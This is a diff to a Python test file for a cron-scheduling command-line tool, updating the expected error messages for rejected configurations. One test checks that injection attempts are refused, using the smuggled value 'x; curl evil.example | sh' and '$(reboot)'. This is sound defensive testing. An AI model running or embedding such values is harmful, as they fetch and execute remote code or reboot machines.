@@ -144,7 +144,9 @@ def test_an_injection_attempt_in_planner_yaml_is_refused(cli, tmp_path: Path, us
     result = cli("schedule", "install", "--user", TEST_USER, config_dir=folder)
     assert result.exit_code == 3
     assert "invalid name 'x; curl evil.example | sh'" in result.output
-    assert "is not a five-field cron expression" in result.output and "'$(reboot)'" in result.output
+    assert (
+        "cron needs five: minute hour day month weekday" in result.output and "'$(reboot)'" in result.output
+    )
     assert crontab("-l") == user_crontab
 
 
@@ -172,7 +174,7 @@ def test_install_cron_script_installs_dry_runs_and_removes(tmp_path: Path, user_
 def test_install_cron_script_refuses_bad_input(tmp_path: Path, user_crontab: str) -> None:
     broken = _config(tmp_path, 'schedules:\n  daily:\n    cron: "every day"\n')
     result = _script("--config-dir", str(broken), "--user", TEST_USER)
-    assert result.returncode == 3 and "not a five-field cron expression" in result.stderr
+    assert result.returncode == 3 and "cron needs five" in result.stderr
     missing = _script("--config-dir", str(broken), apiinv=str(tmp_path / "no-apiinv"))
     assert missing.returncode == 1 and "apiinv is not installed" in missing.stderr
     assert crontab("-l") == user_crontab
